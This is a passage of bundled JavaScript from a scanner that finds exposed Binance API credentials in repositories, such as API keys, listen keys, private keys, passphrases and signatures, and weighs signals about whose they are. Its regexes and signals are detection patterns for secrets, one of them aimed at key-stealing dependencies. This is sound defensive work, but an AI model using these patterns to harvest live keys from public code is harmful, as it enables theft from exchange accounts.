	call("HMAC", /(?:^|\.)(?:HMAC\.new|SymmetricKey)$/, { 0: "secret" }),
	call("HMAC", /(?:^|\.)HmacSHA256$/i, { 1: "secret" }),
	call("HMAC", /(?:^|\.)hmac\.new$/, { 0: "secret" }),
	call("HMAC", /(?:^|\.)hmac\.New$/, { 1: "secret" }),
	call("HMAC", /(?:^|\.)hash_hmac$/, { 2: "secret" }),
	call("HMAC", /(?:^|\.)(?:HMACSHA256|SecretKeySpec|new_from_slice|hmac_sha256)$/, { 0: "secret" }),
	call("HMAC", /(?:^|\.)HMAC\.(?:hex)?digest$/, { 1: "secret" })
];
/** Calls that take a secret of their own: sessions, cookies, JWTs. Their literal is no credential of an exchange. */
const otherCalls$1 = [[/(?:^|\.)(?:session|expressSession|cookieSession|cookieParser|SessionMiddleware|CookieStore|cookie_session)(?:\.new)?$/, "session"], [/(?:^|\.)(?:jwt|JWT|jsonwebtoken|jose)\.\w+$|(?:^|\.)(?:expressjwt|expressJwt|JwtModule\.register|JwtStrategy|JWTManager)$/, "JWT"]];
/** What a manifest or an import must name to make a project one of Binance's. */
const sdkPackages = /python-binance|binance-connector|binance-sdk|binance-futures-connector|node-binance-api|binance-api-node|@binance\/|go-binance|binance-api|Binance\.Net|binance-rs|binance_spot_connector|unicorn-binance|php-binance|binance-client|binance-ruby|xchange-binance|"binance"|(?:^|[\s"'/:])binance(?=[\s"'=<>~:@,[]|$)/im;
/** Hosts that only Binance's programs call. */
const binanceHosts = /\b(?:binance\.(?:com|us|vision|th)|binancefuture\.com|binanceops\.com|tokocrypto\.com|binanceapi\.com)\b/i;
const testnetHosts = /\btestnet\.binance(?:\.vision|future\.com)|\bstream(?:-api)?\.testnet\.binance|\btestnet\.binanceops|binancefuture\.com/i;
const demoHosts = /\bdemo(?:-[a-z]{1,20}){0,3}\.binance\.com/i;
const liveHosts = /(?<![\w-])(?:api|api[1-4]|api-gcp|fapi|dapi|eapi|papi|ws-api|ws-fapi|fix-oe)\.binance\.(?:com|us|th)|\bbpay\.binanceapi\.com/i;
// ../engine/dist/candidates/listen-keys.js
/**
* Listen keys as candidates: 60 to 64 letters and digits that open a stream of an account's events for an hour. Most
* have the shape of an API key, so the name or the URL that carries them decides: `listenKey`, `/ws/…`, `?streams=…`.
*/
const key = /^\s*([A-Za-z0-9]{60,64})\s*$/;
const carried = /(listen[_-]?key["'`\])]{0,2}\s{0,4}(?:=>|[=:]|%3D)\s{0,4}["'`]{0,2}|\/ws\/|[?&/]streams?=)([A-Za-z0-9]{60,64})(?![A-Za-z0-9])/gi;
function listenKeyCandidates({ text }, reading) {
	const found = /* @__PURE__ */ new Map();
	const add = (value, start, end, use) => {
		if (found.has(start) || !require_worth_reading.isVaried(value)) return;
		found.set(start, {
			shape: "listen-key",
			secret: new Secret(value),
			span: {
				start,
				end
			},
			uses: [use]
		});
	};
	for (const match of text.matchAll(carried)) {
		const [whole, before = "", value = ""] = match;
		const end = match.index + whole.length;
		const host = /wss?:\/\/([\w.-]{1,80})[^\s"'`]{0,40}$/.exec(text.slice(Math.max(0, end - value.length - 140), end - value.length))?.[1];
		if (host !== void 0 && !binanceHosts.test(host)) continue;
		const name = /listen/i.test(before) ? "listenKey" : before.startsWith("/ws") ? "stream" : "streams";
		add(value, end - value.length, end, {
			path: [name],
			via: "entry",
			container: 0,
			embedded: true,
			outer: true
		});
	}
	const look = ({ path, via, container, value }) => {
		if (value.kind !== "text" || value.text.length < 60) return;
		const match = key.exec(value.text);
		if (!match?.[1] || require_worth_reading.meaningOfPath(path).use !== "listen key") return;
		const start = value.text.indexOf(match[1]);
		const span = require_worth_reading.sourceSpan(value, {
			start,
			end: start + match[1].length
		});
		add(match[1], span.start, span.end, {
			path,
			via,
			container,
			embedded: false
		});
	};
	if (!/listen/i.test(text)) return [...found.values()];
	for (const binding of reading.bindings) look(binding);
	for (const { args } of reading.calls) for (const arg of args) look(arg);
	return [...found.values()];
}
// ../engine/dist/candidates/passphrases.js
/**
* Passphrases of encrypted private keys as candidates. People make them up, so they have no shape: only a name that
* says both private key and passphrase, or the place in an SDK's call, makes a text one.
*/
/** Such a name, folded to its letters: `private_key_pass`, `privateKeyPassphrase`, `PEM_PASSWORD`. */
const name$4 = /(?:private|priv|prv|rsa|ed25519|pem|signing)(?:key|pem)?(?:file)?pass(?:phrase|word|wd|code)?$/;
const isName = (word) => name$4.test(word.toLowerCase().replace(/[^a-z0-9]/g, ""));
/** What stands where a passphrase will: a reference, a blank to fill, a type, a remark. */
const blank = [
	/^\s*$/,
	/^[<[{(].*[>\]})]$/,
	/\$\{?\w|^%\w+%$|\bprocess\.env\b|\bsecrets?\./,
	/^([x*.·•…#?-])\1*$/i,
	/^(?:your|my|the|some|enter|insert|replace|change|optional|example|dummy|placeholder|todo|fixme)(?![a-z0-9])|_here$/i,
	/^(?:change|replace|fill|edit)[_. -]?me[!.]*$/i,
	/^(?:none|null|undefined|true|false|string|str|password|passphrase|pass)$/i,
	/\s\S+\s\S+\s/
];
/** What is called with the text, or undefined. */
const callOf = /([A-Za-z_]\w{0,60})(?:<[^<>()\n]{0,60}>)?!?\(\s{0,40}[a-zA-Z@$]{0,2}["'`]{1,3}$/;
/** Calls that give their text back in another form. */
const converts = /^(?:bytes?|bytearray|byte|str|string|from\w*|of|new|some|just|ok|optional\w*|buffer|atob|btoa|\w*base64\w*|b64decode|unhexlify|\w*decode\w*|\w*encode\w*|to_?\w+|into|secret_?str(?:ing)?|secure_?string|secret|secret_?box|\w*ptr|pointer|char\w*|c_?string|utf8\w*|concat|join|trim|strip|format\w*|sprintf|\w*of|wrap)$/i;
/** `getpass("Passphrase: ")`, `vault.read("desk/key")`: the text says what to ask for, or where it lies. */
function isAskedWith(text, at) {
	const callee = callOf.exec(text.slice(Math.max(0, at - 120), at))?.[1];
	return callee !== void 0 && !isName(callee) && !converts.test(callee);
}
function passphraseCandidates(document, reading) {
	if (!require_gates.mentionsPassphrase(document.text)) return [];
	const found = /* @__PURE__ */ new Map();
	const look = ({ path, via, container, value, span }, call) => {
		const own = [...path].reverse().find((step) => !/^\d*$/.test(step)) ?? call?.callee.at(-1) ?? "";
		if (value.kind !== "text" || value.text.length > 200 || blank.some((form) => form.test(value.text)) || found.has(span.start)) return;
		if (!isName(own) || /^[A-Za-z_-]+$/.test(value.text) && isName(value.text)) return;
		const extent = require_worth_reading.extentOf(value);
		if (isAskedWith(document.text, extent.start)) return;
		found.set(extent.start, {
			shape: "passphrase",
			secret: new Secret(value.text, {
				domain: "key-passphrase",
				place: `${document.path}\0${path.join(".")}`
			}),
			span: extent,
			uses: [{
				path,
				via,
				container,
				embedded: false,
				...call ? { call } : {}
			}]
		});
	};
	for (const binding of reading.bindings) look(binding);
	for (const call of reading.calls) for (const arg of call.args) look(arg, call);
	return [...found.values()];
}
// ../engine/dist/candidates/private-key-candidates.js
/** Private keys as candidates: private-keys.ts finds them in the raw text, this finds the names and calls that hold them. */
function privateKeyCandidates({ text }, reading) {
	const keys = require_worth_reading.findPrivateKeys(text);
	if (keys.length === 0) return [];
	const holders = holdersIn$1(reading);
	return keys.map(({ span, der, encrypted, algorithm }) => {
		const uses = holders(span);
		return {
			shape: encrypted ? "encrypted-private-key" : "private-key",
			secret: new Secret(der, { bytes: Uint8Array.from(atob(der), (char) => char.charCodeAt(0)) }),
			span,
			algorithm,
			uses: uses.length > 0 ? uses : labelsOf(text, span.start, span.end).map(({ says, ...kind }) => ({
				...kind,
				path: [says],
				via: "bare",
				container: span.start,
				embedded: true
			}))
		};
	});
}
/** Shorter values hold no private key. */
const shortestHolder = 40;
/** What holds a private key. To be asked for the keys in order of place. */
function holdersIn$1({ bindings, calls }) {
	const all = [];
	const add = ({ path, via, container, value }, call) => {
		if (value.kind !== "text") return;
		const span = require_worth_reading.extentOf(value);
		if (span.end - span.start >= shortestHolder) all.push({
			span,
			use: {
				path,
				via,
				container,
				embedded: false,
				...call ? { call } : {}
			}
		});
	};
	for (const binding of bindings) add(binding);
	for (const call of calls) for (const arg of call.args) add(arg, call);
	all.sort((a, b) => a.span.start - b.span.start);
	let next = 0;
	let open = [];
	return (key) => {
		for (; next < all.length && all[next].span.start <= key.start + 2; next += 1) if (all[next].span.end >= key.start) open.push(all[next]);
		open = open.filter(({ span }) => span.end >= key.start).slice(-100);
		return open.filter(({ span }) => span.end >= key.end - 2).slice(0, 24).map(({ use }) => use);
	};
}
// ../engine/dist/candidates/signatures.js
/**
* Signatures of recorded requests as candidates: `signature=` in a URL, a form or a message, with an API key in the
* same request. Without a key beside it a signature is a hash of something, and none of ours.
*/
/** HMAC signatures are 64 hex digits, those of Ed25519 and RSA base64, perhaps percent-encoded. */
const signed = /\bsignature(?:["'`\\]{0,4}\s{0,4}[=:]\s{0,4}["'`\\]{0,4}|["'\\]{1,4},\s{0,40}["'\\]{1,4}value["'\\]{1,4}:\s{0,4}["'\\]{1,4})([0-9a-fA-F]{64}(?![0-9a-zA-Z])|[A-Za-z0-9+/%]{86,1100}={0,2})/g;
const fixSigned = /(?:^|[|\x01^])96=([A-Za-z0-9+/]{86,700}={0,2})/g;
const timed = /timestamp|recvWindow/i;
/** A request with all its headers, as tools record it, is no longer. */
const reach$10 = 6e3;
function signatureCandidates({ text }, keys) {
	if (keys.length === 0) return [];
	const found = [];
	const sorted = keys.map(({ span }) => span).sort((a, b) => a.start - b.start);
	const taken = new Set(keys.filter(({ shape }) => shape === "alnum64").map(({ span }) => span.start));
	const add = (value, end, request) => {
		const span = {
			start: end - value.length,
			end
		};
		const first = sorted[countBefore(sorted.length, (index) => sorted[index].start < request.start)];
		if (first && first.end <= request.end && !taken.has(span.start)) found.push({
			shape: "signature",
			secret: new Secret(value, { domain: "signature" }),
			span,
			uses: []
		});
	};
	for (const { index, 0: whole, 1: value = "" } of text.matchAll(signed)) {
		const request = {
			start: Math.max(0, index - reach$10),
			end: Math.min(text.length, index + reach$10)
		};
		if (timed.test(text.slice(Math.max(0, index - 600), index + whole.length + 600))) add(value, index + whole.length, request);
	}
	for (const { index, 0: whole, 1: value = "" } of text.matchAll(fixSigned)) add(value, index + whole.length, {
		start: require_worth_reading.lineStart(text, index + 1),
		end: require_worth_reading.lineEnd(text, index + 1)
	});
	return found;
}
// ../engine/dist/candidates/index.js
/** All candidates of the document in order of place. */
function candidatesOf(document, reading) {
	const others = [
		...privateKeyCandidates(document, reading),
		...listenKeyCandidates(document, reading),
		...fernetCandidates(document, reading)
	];
	const keys = keyCandidates(document, reading, coverOf(others.map(({ span }) => span)));
	const signatures = signatureCandidates(document, keys);
	const found = /* @__PURE__ */ new Map();
	for (const one of [
		...keys,
		...passphraseCandidates(document, reading),
		...signatures,
		...others
	]) found.set(one.span.start, one);
	return [...found.values()].sort((a, b) => a.span.start - b.span.start);
}
// ../engine/dist/signals.js
const signals = {
	"random-64": {
		question: "credential",
		group: "shape",
		bits: 4,
		help: "a run of 64 mixed letters and digits",
		because: "after the look-alike filters 75 of 76 such runs in Binance repositories were keys"
	},
	"hex-64": {
		question: "credential",
		group: "shape",
		bits: -1,
		help: "mixed letters and digits instead of hex",
		because: "6 true values among 15,583 runs of lower-case hex"
	},
	"private-key-body": {
		question: "credential",
		group: "shape",
		bits: 10,
		help: "a private key that parses",
		because: "a DER body that parses as a private key is one"
	},
	fernet: {
		question: "credential",
		group: "shape",
		bits: 8,
		help: "a Fernet token in OctoBot’s configuration",
		because: "OctoBot encrypts with a key that its public source holds"
	},
	"listen-key": {
		question: "credential",
		group: "shape",
		bits: 8,
		help: "a name or URL of a listen key",
		because: "nothing else is named listen key or stands at the place of a stream in such a URL"
	},
	passphrase: {
		question: "credential",
		group: "shape",
		bits: 8,
		help: "a name that says passphrase of a private key",
		because: "the name says both private key and passphrase, and the text is no blank"
	},
	signature: {
		question: "credential",
		group: "shape",
		bits: 8,
		help: "an API key, a time and a signature in one request",
		because: "together they are a signed request"
	},
	"hex-pair": {
		question: "credential",
		group: "name",
		bits: 4,
		help: "a pair of hex values for the testnet",
		because: "hashes seldom come in pairs, keys of the futures testnet do"
	},
	"sdk-argument": {
		question: "credential",
		group: "name",
		bits: 7,
		help: "an SDK call that takes it",
		because: "an SDK takes credentials at this place"
	},
	"credential-name": {
		question: "credential",
		group: "name",
		bits: 4,
		help: "a name such as API_KEY or SECRET",
		because: "71 % of true values have `api` or `secret` on their line"
	},
	"key-name": {
		question: "credential",
		group: "name",
		bits: 2,
		help: "a name with `key`",
		because: "10 % have only `key` on their line, and so have many other tokens"
	},
	"words-near": {
		question: "credential",
		group: "near",
		bits: 2,
		help: "a credential word within three lines",
		because: "7 % have it only on a neighbouring line"
	},
	"other-half": {
		question: "credential",
		group: "half",
		bits: 2,
		help: "the other half within three lines",
		because: "90 % of true values stand within three lines of another run of 64"
	},
	"other-use": {
		question: "credential",
		group: "use",
		bits: -14,
		help: "a name that does not say hash, session, wallet …",
		because: "a name that says what else it is, is mostly right"
	},
	"unlikely-use": {
		question: "credential",
		group: "use",
		bits: -5,
		help: "a name that does not say hash or signature",
		because: "hashes and signatures are hex or base64, so mixed letters and digits under such a name are something else"
	},
	"same-credential": {
		question: "credential",
		group: "same",
		bits: 14,
		help: "the same value elsewhere where it certainly is one",
		because: "one value is one credential, whatever it is called here"
	},
	"vague-name": {
		question: "credential",
		group: "use",
		bits: -5,
		help: "a name that says more than token or password",
		because: "most tokens and passwords are of other services, and some people call their keys so"
	},
	"plain-risk": {
		question: "risk",
		group: "risk",
		bits: 9,
		help: "a setting or call that says it in so many words",
		because: "the rule knows the name and the value, and what else they could mean"
	},
	"likely-risk": {
		question: "risk",
		group: "risk",
		bits: 5,
		help: "a name and value that hardly mean anything else",
		because: "the name or the value is one that other programs use too"
	},
	"doubtful-risk": {
		question: "risk",
		group: "risk",
		bits: 2,
		help: "a name and value that say more",
		because: "what stands there may as well be something else"
	},
	"binance-setting": {
		question: "binance",
		ofRisks: true,
		group: "own",
		bits: 7,
		help: "a setting or call that only Binance has",
		because: "the name is a field, parameter or method of Binance’s API and of no other"
	},
	"binance-credential": {
		question: "binance",
		ofRisks: true,
		group: "own",
		bits: 8,
		help: "a credential of Binance in it",
		because: "the rules about credentials found one, and said whose it is"
	},
	"binance-variables": {
		question: "binance",
		ofRisks: true,
		group: "own",
		bits: 6,
		help: "a variable or section in it that is named for Binance",
		because: "a file of variables that names Binance is for a program that calls it"
	},
	"binance-elsewhere": {
		question: "binance",
		ofRisks: true,
		group: "project",
		bits: 4,
		help: "a finding of Binance’s in another file of the project",
		because: "the rules about credentials and settings found one, and said whose it is"
	},
	"anyones-risk": {
		question: "binance",
		ofRisks: true,
		group: "own",
		bits: 9,
		help: "a danger in every project",
		because: "a dependency that steals keys does so whatever they are for"
	},
	"binance-name": {
		question: "binance",
		group: "own",
		bits: 9,
		help: "its own name saying Binance",
		because: "the name says so"
	},
	"binance-short-name": {
		question: "binance",
		group: "own",
		bits: 5,
		help: "its own name saying BN or BNB",
		because: "common abbreviations, also of the coin and the chain"
	},
	"sdk-call": {
		question: "binance",
		group: "own",
		bits: 10,
		help: "an argument of a Binance SDK call",
		because: "imported from a Binance SDK"
	},
	"sdk-like-call": {
		question: "binance",
		group: "own",
		bits: 7,
		help: "a call that Binance SDKs have",
		because: "the callee has the name of an SDK call, the import is not in sight"
	},
	"mbx-header": {
		question: "binance",
		group: "own",
		bits: 8,
		help: "the header X-MBX-APIKEY",
		because: "only Binance and a few clones of it use the header"
	},
	"exchange-entry": {
		question: "binance",
		group: "own",
		bits: 9,
		help: "an entry beside it that says exchange: binance",
		because: "the configuration says which exchange it is for"
	},
	"framework-entry": {
		question: "binance",
		group: "own",
		bits: 6,
		help: "the entry of a known trading bot",
		because: "the file and path that a trading bot reads Binance keys from"
	},
	"binance-near": {
		question: "binance",
		group: "near",
		bits: 5,
		help: "the word Binance within ten lines",
		because: "the word is within ten lines of a third of the true values"
	},
	"binance-import": {
		question: "binance",
		group: "file",
		bits: 7,
		help: "an import of a Binance SDK",
		because: "68 % of true values have an import or a host in their file"
	},
	"binance-host": {
		question: "binance",
		group: "file",
		bits: 6,
		help: "a Binance host in the file",
		because: "68 % of true values have an import or a host in their file"
	},
	"binance-word": {
		question: "binance",
		group: "file",
		bits: 4,
		help: "the word Binance in the file",
		because: "the file speaks of Binance"
	},
	"binance-api-word": {
		question: "binance",
		group: "api-word",
		bits: 2,
		help: "a word of Binance’s API, such as recvWindow",
		because: "endpoints, fields and parameters that Binance’s API has and few others"
	},
	"binance-symbol": {
		question: "binance",
		group: "api-word",
		bits: 1,
		help: "a trading pair such as BTCUSDT",
		because: "Binance writes pairs so, and some other exchanges too"
	},
	"binance-path": {
		question: "binance",
		group: "path",
		bits: 5,
		help: "a path that says Binance",
		because: "9 % have Binance only in path, repository or siblings"
	},
	"binance-repository": {
		question: "binance",
		group: "project",
		bits: 5,
		help: "a repository named for Binance",
		because: "9 % have Binance only in path, repository or siblings"
	},
	"binance-dependency": {
		question: "binance",
		group: "project",
		bits: 5,
		help: "a manifest that names a Binance SDK",
		because: "9 % have Binance only in path, repository or siblings"
	},
	"binance-sibling": {
		question: "binance",
		group: "project",
		bits: 5,
		help: "another file that imports a Binance SDK or calls its hosts",
		because: "9 % have Binance only in path, repository or siblings"
	},
	"ccxt-import": {
		question: "binance",
		group: "exchange-library",
		bits: 2,
		help: "an import of ccxt",
		because: "ccxt serves a hundred exchanges; most keys in bots are for Binance"
	},
	"named-pair": {
		question: "binance",
		group: "pair",
		bits: 3,
		help: "its other half named beside it",
		because: "few services have two halves of 64 mixed letters and digits"
	},
	"key-file-named": {
		question: "binance",
		group: "key-file",
		bits: 6,
		help: "another file that names it beside Binance’s API",
		because: "the program that calls Binance loads its private key by this file’s name"
	},
	"variable-named": {
		question: "binance",
		group: "key-file",
		bits: 6,
		help: "a program that gives this variable to a client of Binance",
		because: "the program that makes the client reads its keys by these names"
	},
	"same-value": {
		question: "binance",
		group: "same",
		bits: 6,
		help: "the same value elsewhere with Binance evidence",
		because: "one value is one credential"
	},
	"other-service": {
		question: "binance",
		group: "other",
		bits: -20,
		help: "a name that does not name another service",
		because: "the name says whose it is"
	},
	"other-service-file": {
		question: "binance",
		group: "other",
		bits: -4,
		help: "a path that does not name another exchange",
		because: "the file is for another exchange"
	},
	"any-private-key": {
		question: "binance",
		group: "kind",
		bits: -2,
		help: "a key of 64 letters and digits",
		because: "private keys serve everything, Binance keys only Binance"
	},
	"any-passphrase": {
		question: "binance",
		group: "kind",
		bits: -5,
		help: "a key instead of its passphrase",
		because: "passphrases of private keys serve everything"
	},
	"foreign-words": {
		question: "binance",
		group: "foreign",
		bits: -3,
		help: "a name without words of its own",
		because: "a name with unknown words may be of another service"
	},
	"named-otherwise": {
		question: "binance",
		group: "otherwise",
		bits: -5,
		help: "a file whose Binance names do not stand elsewhere",
		because: "who writes BINANCE_API_KEY for one value does not call another of Binance’s by a name without it"
	},
	"named-for-other": {
		question: "binance",
		group: "otherwise",
		bits: -12,
		help: "a name without words of its own beside Binance’s names",
		because: "where Binance’s credentials are named for it, one that is named for something else is that"
	},
	"other-host": {
		question: "binance",
		group: "other",
		bits: -24,
		help: "a host of Binance instead of another exchange’s",
		because: "several exchanges imitate Binance’s API, the header included: the host tells"
	},
	"other-section": {
		question: "binance",
		group: "section",
		bits: -9,
		help: "the section of Binance",
		because: "a file that has a section for Binance has the others for others"
	},
	"half-of-own": {
		question: "binance",
		group: "half",
		bits: 6,
		help: "an other half of Binance’s",
		because: "both halves of a pair are of one exchange"
	},
	"sdk-slot": {
		question: "role",
		group: "slot",
		bits: 9,
		help: "an SDK call that takes it at a place of one role",
		because: "the SDK documents the place"
	},
	"signing-slot": {
		question: "role",
		group: "slot",
		bits: 6,
		help: "a signing call that takes it as its key",
		because: "requests are signed with the secret"
	},
	"header-role": {
		question: "role",
		group: "slot",
		bits: 9,
		help: "the header that carries API keys",
		because: "the header carries API keys alone"
	},
	"role-name": {
		question: "role",
		group: "name",
		bits: 6,
		help: "a name that tells the role",
		because: "people name secrets secret"
	},
	"role-label": {
		question: "role",
		group: "label",
		bits: 4,
		help: "a label before it that tells the role",
		because: "labels in prose are looser than names"
	},
	"role-key": {
		question: "role",
		group: "weak-name",
		bits: 2,
		help: "a name with `key`",
		because: "`key` beside `secret` is the API key; alone it may be either"
	},
	"role-order": {
		question: "role",
		group: "order",
		bits: 3,
		help: "its place before or after the other half",
		because: "every SDK and most people put the API key first"
	},
	"role-other-half": {
		question: "role",
		group: "half",
		bits: 3,
		help: "an other half of known role",
		because: "of two halves one is the key and one the secret"
	},
	"role-same-value": {
		question: "role",
		group: "same",
		bits: 4,
		help: "the same value elsewhere with a known role",
		because: "one value is one credential"
	},
	"role-private-key": {
		question: "role",
		group: "shape",
		bits: 12,
		help: "a private key that parses",
		because: "a private key is a private key"
	}
};
/** A clue of the kind `id`; `says` is a sentence fragment without any value. */
function clue(id, says, role) {
	const { question, group, bits } = signals[id];
	return {
		signal: id,
		question,
		group,
		bits,
		says,
		...role ? { role } : {}
	};
}
// ../engine/dist/clues/acting.js
/**
* A document without what is said and does nothing to a key: comments, docstrings, addresses under names that nobody uses, what
* is chosen under a condition or for other keys. `# client = Client(k, s, testnet=True)` is what people leave behind when they
* go live. Tells no environment itself: environment.ts asks what is said and what is done.
*/
const docstring = /^[ \t]*[rRbBuUfF]{0,2}("""|''')[^]*?\1/gm;
/** As long as the document's text; what speaks of no key in particular and does nothing is blank. */
function actingText({ text }, reading) {
	const said = [...reading.comments, ...unusedAddresses(text)];
	if (reading.language === "python") for (const { 0: whole, index } of text.matchAll(docstring)) said.push({
		start: index,
		end: index + whole.length
	});
	return blanked(text, said);
}
/** The addresses that stand in one mapping with keys: they are those keys'. */
function ownedAddresses(bindings) {
	const addresses = bindings.filter(({ container, value }) => container !== 0 && value.kind === "text" && testnetHosts.test(value.text.slice(0, 300)));
	if (addresses.length === 0) return [];
	const owning = new Set(bindings.flatMap(({ container, path }) => require_worth_reading.meaningOf(path.at(-1) ?? "").role === void 0 ? [] : [container]));
	return addresses.filter(({ container }) => owning.has(container)).map(({ span }) => span);
}
/** Line breaks stay, so that lines are what they were. */
function blanked(text, spans) {
	const parts = [];
	let at = 0;
	for (const { start, end } of [...spans].sort((a, b) => a.start - b.start)) {
		if (end <= at) continue;
		const from = Math.max(at, start);
		parts.push(text.slice(at, from), text.slice(from, end).replace(/[^\r\n]/g, " "));
		at = end;
	}
	return at === 0 ? text : parts.join("") + text.slice(at);
}
const namedAddress = /(?<![\w$])([A-Za-z_]\w{0,60})["'\]]{0,2}[ \t]{0,9}(?::[ \t]{0,4}[\w&']{1,20}[ \t]{0,9})?(?::=|=|:)[ \t]{0,9}["'`]?(?:https?|wss?):\/\/[^"'`\s]{1,100}/g;
/** Documents have few. */
const mostAddresses = 50;
/** `TESTNET_URL = "https://testnet…"`, where nothing reads that name. */
function unusedAddresses(text) {
	const unused = [];
	let looked = 0;
	for (const { 0: whole, 1: name = "", index } of text.matchAll(namedAddress)) {
		if (!/test/i.test(name) || !testnetHosts.test(whole)) continue;
		if ((looked += 1) > mostAddresses) break;
		const first = text.indexOf(name);
		if (text.indexOf(name, first + name.length) < 0) unused.push({
			start: index,
			end: index + whole.length
		});
	}
	return unused;
}
/** What chooses an environment: a flag, a call, an address. */
const choice = /(?:test_?net|sandbox|demo|paper)\w{0,20}["']?\s{0,4}(?:[:=]>?|,)\s{0,4}["']?(?:true|1|yes)\b|set_?sandbox_?mode\(\s{0,4}true|(?:https?|wss?):\/\/[\w.-]{0,40}(?:testnet|binancefuture|demo)[\w.-]{0,40}|test_?net/gi;
const conditional = /^\s*[})]?\s*(?:if|elif|elsif|else|case|when|unless|switch|default)\b/;
/**
* The part of it around a value, without what is chosen there for others: under a condition that the value does not stand under,
* in a call that names other keys, of a client that was made of others.
* @param near holds the value's span
* @param names by which the value may be meant
*/
function actingNear(acting, near, span, names) {
	const part = acting.slice(near.start, near.end);
	const others = [];
	for (const { 0: whole, index } of part.matchAll(choice)) {
		const chosen = {
			start: near.start + index,
			end: near.start + index + whole.length
		};
		if (isConditional(acting, chosen.start, span) || isOfOthers$2(acting, chosen, span, names)) others.push({
			start: index,
			end: index + whole.length
		});
	}
	return blanked(part, others);
}
const address$3 = /(?:https?|wss?):\/\/[\w.-]{0,40}(?:testnet|binancefuture|demo)[\w.-]{0,40}/gi;
/** What a text leads to in more places it leads to altogether. */
const mostLed = 20;
/** Where a text has addresses of a testnet; one too many where it has more than are looked at. */
function testnetAddresses(acting) {
	const found = [];
	for (const { 0: whole, index } of acting.matchAll(address$3)) {
		found.push({
			start: index,
			end: index + whole.length
		});
		if (found.length > mostLed) break;
	}
	return found;
}
/** Whether all of these addresses lead other keys there than this one. */
function leadOthersOnly(addresses, acting, span, names) {
	return addresses.length > 0 && addresses.length <= mostLed && addresses.every((one) => isOfOthers$2(acting, one, span, names));
}
const madeAs = /([A-Za-z_$][\w$]*(?:(?:\.|->)\w+){0,3})\s{0,4}(?::\s{0,4}[\w.<>]{1,60}\s{0,4})?:?=\s{0,4}(?:await\s+)?(?:new\s+)?(?:[\w.]{1,60})?$/;
/** So far behind its making a client is led elsewhere. */
const ledWithin = 3e3;
/** Whether the client that a call makes is led to a testnet afterwards, by its own address or switch and under no condition. */
function isLedLater(acting, { start, end }) {
	const client = madeAs.exec(acting.slice(Math.max(0, start - 200), start))?.[1];
	if (client === void 0) return false;
	const own = client.replace(/[$.]/g, "\\$&");
	const led = new RegExp(`^([ \\t]*)${own}(?:\\.|->)(?:\\w{0,20}(?:url|base|host|endpoint|api)\\w{0,20}\\s{0,4}=\\s{0,4}["'\`](?:https?|wss?)://[\\w.-]{0,40}(?:testnet|binancefuture)|set_?sandbox_?mode\\(\\s{0,4}true)`, "im").exec(acting.slice(end, end + ledWithin));
	return led !== null && led[1].length <= indent(acting, start);
}
function isConditional(text, at, span) {
	const line = text.slice(require_worth_reading.lineStart(text, at), at);
	if (conditional.test(line)) return !text.slice(at, span.start).includes("\n") ? false : require_worth_reading.lineStart(text, at) !== require_worth_reading.lineStart(text, span.start);
	const head = require_worth_reading.headAbove(text, at, 6);
	return head !== void 0 && conditional.test(head) && indent(text, span.start) < indent(text, at);
}
const indent = (text, at) => /^[ \t]*/.exec(text.slice(require_worth_reading.lineStart(text, at), require_worth_reading.lineEnd(text, at)))[0].length;
function isOfOthers$2(text, chosen, span, names) {
	const meansIt = (from, to) => from <= span.start && span.end <= to || names.some((name) => name.length > 1 && hasName(text, name, from, to));
	if (isOfService(text, chosen, span)) return true;
	for (let at = chosen.start, level = 0; level < 3; level += 1) {
		const around = bracketsAround$1(text, at);
		if (around === void 0) break;
		if (meansIt(around.start, around.end)) return false;
		if (isAnothers(/([\w-]{2,40})["'`]?\s{0,4}[:=]?\s{0,4}$/.exec(text.slice(Math.max(0, around.start - 60), around.start))?.[1])) return true;
		const source = text.slice(around.start, around.end);
		if (ownKeys.test(source) || twoArguments.test(source)) return true;
		at = around.start;
	}
	const [, receiver] = /(?<![\w.$])([A-Za-z_$]\w{0,40})(?:\.|->)(?:[\w.]{1,40}\s{0,4}=\s{0,4}["'`]?)?$/.exec(text.slice(Math.max(0, chosen.start - 120), chosen.start)) ?? [];
	if (receiver === void 0) return false;
	const before = text.slice(Math.max(0, chosen.start - 3e3), chosen.start);
	const made = [...before.matchAll(new RegExp(`(?<![\\w.$])${receiver.replaceAll("$", "\\$")}\\s{0,4}(?::[^=\\n]{0,40})?:?=(?!=)`, "g"))].at(-1);
	return made !== void 0 && !meansIt(chosen.start - before.length + made.index, chosen.start);
}
/** A name that says another service or exchange, and not Binance. */
function isAnothers(name) {
	if (name === void 0) return false;
	const { binance, service, exchange } = require_worth_reading.meaningOf(name);
	return binance === void 0 && (service !== void 0 || exchange !== void 0);
}
const section = /^\s*(?:\[[^\]\n]+\]|---)\s*$/m;
/** `BYBIT_TESTNET=true`, `testnet: true` below `bybit:`, and what stands in another section than the value. */
function isOfService(text, { start, end }, span) {
	const line = text.slice(require_worth_reading.lineStart(text, start), end);
	if (isAnothers(/([\w-]{2,60})["'\]]{0,2}\s{0,4}(?:[:=]>?|,)?\s{0,4}["']?\w*$/.exec(line)?.[1])) return true;
	const head = require_worth_reading.headAbove(text, start, 6);
	if (head !== void 0 && isAnothers(/^\s*(?:-\s*)?["']?([\w-]{2,40})["']?\s*[:=]?\s*\{?\s*$/.exec(head)?.[1])) return true;
	const between = start > span.end ? text.slice(span.end, start) : text.slice(end, span.start);
	return section.test(between);
}
const ownKeys = /[(,{\n]\s*[\w.$"'[\]]{0,40}(?:key|secret)[\w.$"'[\]()]{0,40}\s*[,=:)]/i;
const twoArguments = /^\(\s*[\w.$"'[\]]{1,80}\s*,\s*[\w.$"'[\]]{1,80}\s*,/;
/** Calls and mappings are no longer. */
const longest$7 = 1500;
/** Whether a name stands in a part of a text, and not as a part of another one. */
function hasName(text, name, from, to) {
	const part = text.slice(from, to);
	for (let at = part.indexOf(name); at >= 0; at = part.indexOf(name, at + 1)) if (!/[\w"'`]/.test(part.charAt(at - 1)) && !/\w/.test(part.charAt(at + name.length))) return true;
	return false;
}
/** 1: opens, -1: closes. */
function bracket(code) {
	if (code === 40 || code === 91 || code === 123) return 1;
	return code === 41 || code === 93 || code === 125 ? -1 : 0;
}
/** The call or the mapping that a place stands in, with its brackets. */
function bracketsAround$1(text, at) {
	let depth = 0;
	for (let start = at - 1; start >= Math.max(0, at - longest$7); start -= 1) {
		depth -= bracket(text.charCodeAt(start));
		if (depth >= 0) continue;
		const stop = Math.min(text.length, start + longest$7);
		for (let end = start + 1, open = 1; end < stop; end += 1) {
			open += bracket(text.charCodeAt(end));
			if (open === 0) return {
				start,
				end: end + 1
			};
		}
		return;
	}
}
